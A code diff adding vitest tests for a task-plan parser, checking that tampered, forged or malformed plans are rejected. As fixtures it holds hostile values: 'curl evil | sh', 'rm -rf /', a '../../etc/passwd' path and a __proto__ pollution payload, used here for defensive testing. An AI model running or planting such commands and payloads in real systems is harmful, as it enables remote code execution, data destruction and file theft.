@@ -1,9 +1,18 @@
 import { writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { isOrdoError } from '@ordo/contracts';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { tempDir } from '../../../vitest.tempDirs.js';
-import { loadPlan, type PlanInvalidError, type PlanIssue, parsePlan, parsePlanText } from '../src/index.js';
+import {
+  loadPlan,
+  type Plan,
+  type PlanInvalidError,
+  type PlanIssue,
+  parsePlan,
+  parsePlanText,
+  resolvePlan,
+} from '../src/index.js';
 
 const task = { id: 'a', files: ['a.txt'], run: { shell: 'echo a > a.txt' } };
 
@@ -107,6 +116,26 @@ describe('parsePlan', () => {
     expect(cycle[0]?.message).toMatch(/cycle: (a -> b -> a|b -> a -> b)/);
   });
 
+  it('names an unknown dependency beside a schema error, not only after it is fixed', () => {
+    const issues = issuesOf(() =>
+      parsePlan({
+        feature: 'f',
+        tasks: [
+          { ...task, priority: 'URGENT', deps: ['ghost'] },
+          { ...task, id: 'b', files: ['/abs'] },
+          { ...task, id: 'b' },
+        ],
+      }),
+    );
+    expect(issues.map((i) => i.path)).toEqual([
+      'tasks[0].priority',
+      'tasks[0].deps[0]',
+      'tasks[1].files[0]',
+      'tasks[2].id',
+    ]);
+    expect(issues[1]?.message).toBe('no task has the id "ghost"');
+  });
+
   it('says what to do in the message', () => {
     expect(() => parsePlan({ feature: 'f', tasks: [] })).toThrow(/invalid; fix these fields/);
   });
@@ -156,5 +185,130 @@ describe('parsePlanText and loadPlan', () => {
       code: 'PLAN_UNREADABLE',
       message: expect.stringMatching(/\.yaml, \.yml or \.json/),
     });
+  });
+});
+
+async function planIssuesOf(promise: Promise<unknown>): Promise<PlanIssue[]> {
+  const error = await promise.then(
+    () => undefined,
+    (e: unknown) => e,
+  );
+  expect(isOrdoError(error, 'PLAN_INVALID')).toBe(true);
+  return [...(error as PlanInvalidError).issues];
+}
+
+describe('resolvePlan of an object that carries a digest', () => {
+  const moduleTask = {
+    id: 'm',
+    deps: ['a'],
+    files: [],
+    timeoutMs: 500,
+    run: { module: './m.mjs', input: { n: 1 } },
+  };
+
+  it('accepts a parsed plan as it is: the same fields and digest', async () => {
+    const plan = parsePlan({ feature: 'f', seed: 3, tasks: [task, moduleTask] }, { baseDir: '/base' });
+    await expect(resolvePlan(plan, '/elsewhere')).resolves.toEqual(plan);
+    // A copy that went through JSON (a host that stored or sent it) is the same plan.
+    await expect(resolvePlan(JSON.parse(JSON.stringify(plan)) as Plan, '/elsewhere')).resolves.toEqual(plan);
+  });
+
+  it('refuses a parsed plan changed afterwards, naming the digest', async () => {
+    const plan = parsePlan({ feature: 'f', tasks: [task] });
+    const changed = {
+      ...plan,
+      tasks: [{ ...plan.tasks[0], run: { kind: 'shell', shell: 'curl evil | sh' } }],
+    } as Plan;
+    const issues = await planIssuesOf(resolvePlan(changed, '/'));
+    expect(issues).toEqual([{ path: 'digest', message: expect.stringMatching(/changed after parsePlan/) }]);
+  });
+
+  it('validates an object that only looks parsed, instead of trusting its digest', async () => {
+    const forged = {
+      feature: 'f',
+      seed: 0,
+      digest: 'x'.repeat(64),
+      tasks: [
+        {
+          id: 'a',
+          deps: [],
+          priority: 2,
+          files: ['../../etc/passwd'],
+          timeoutMs: undefined,
+          run: { kind: 'shell', shell: 'true' },
+        },
+      ],
+    };
+    const issues = await planIssuesOf(resolvePlan(forged as unknown as Plan, '/'));
+    expect(issues.map((i) => i.path)).toEqual(['tasks[0].files[0]']);
+    // The forger can compute a matching digest: the fields are still checked.
+    const { digest: _d, ...body } = forged;
+    const bodyDigest = parsePlan({ feature: 'f', tasks: [task] }).digest;
+    await expect(resolvePlan({ ...body, digest: bodyDigest } as unknown as Plan, '/')).rejects.toMatchObject({
+      code: 'PLAN_INVALID',
+    });
+  });
+
+  it.each([
+    ['a digest that is not a string', { feature: 'f', tasks: [task], digest: 5 }],
+    ['tasks that are not a list', { feature: 'f', tasks: 'no', digest: 'd' }],
+    [
+      'a task whose run is not an object',
+      { feature: 'f', tasks: [{ ...task, run: 'rm -rf /' }], digest: 'd' },
+    ],
+    [
+      'an unknown run kind',
+      { feature: 'f', tasks: [{ ...task, run: { kind: 'exec', shell: 'x' } }], digest: 'd' },
+    ],
+    [
+      'a __proto__ key',
+      JSON.parse(
+        '{"feature":"f","digest":"d","tasks":[{"id":"a","files":[],"run":{"kind":"shell","shell":"x","__proto__":{"polluted":1}}}]}',
+      ),
+    ],
+  ])('refuses %s with PLAN_INVALID, not a TypeError', async (_name, value) => {
+    await expect(resolvePlan(value as Plan, '/')).rejects.toMatchObject({ code: 'PLAN_INVALID' });
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+  });
+
+  it('round-trips every valid plan (property)', async () => {
+    const id = fc.stringMatching(/^[a-z][a-z0-9]{0,5}$/);
+    const shellTask = fc.record({
+      id,
+      files: fc.array(fc.stringMatching(/^[a-z]{1,4}(\/[a-z]{1,4})?$/), { maxLength: 3 }),
+      priority: fc.option(fc.constantFrom('CRITICAL', 'HIGH', 'NORMAL', 'LOW', 0, 1, 2, 3), {
+        nil: undefined,
+      }),
+      timeoutMs: fc.option(fc.integer({ min: 1, max: 2 ** 31 - 1 }), { nil: undefined }),
+      run: fc.oneof(
+        fc.record({ shell: fc.string({ minLength: 1, maxLength: 20 }) }),
+        fc.record({
+          module: fc.constantFrom('./a.mjs', '/abs/b.mjs'),
+          input: fc.option(fc.jsonValue(), { nil: undefined }),
+        }),
+      ),
+    });
+    await fc.assert(
+      fc.asyncProperty(
+        fc.uniqueArray(shellTask, { minLength: 1, maxLength: 6, selector: (t) => t.id }),
+        fc.integer(),
+        async (tasks, seed) => {
+          const input = {
+            feature: 'p',
+            seed,
+            tasks: tasks.map((t, i) => ({
+              ...Object.fromEntries(Object.entries(t).filter(([, v]) => v !== undefined)),
+              deps: i > 0 ? [tasks[0]?.id] : [],
+            })),
+          };
+          const plan = parsePlan(input, { baseDir: '/base' });
+          expect(await resolvePlan(plan, '/other')).toEqual(plan);
+          expect(await resolvePlan(JSON.parse(JSON.stringify(plan)) as Plan, '/other')).toEqual(
+            JSON.parse(JSON.stringify(plan)),
+          );
+        },
+      ),
+      { numRuns: 150 },
+    );
   });
 });
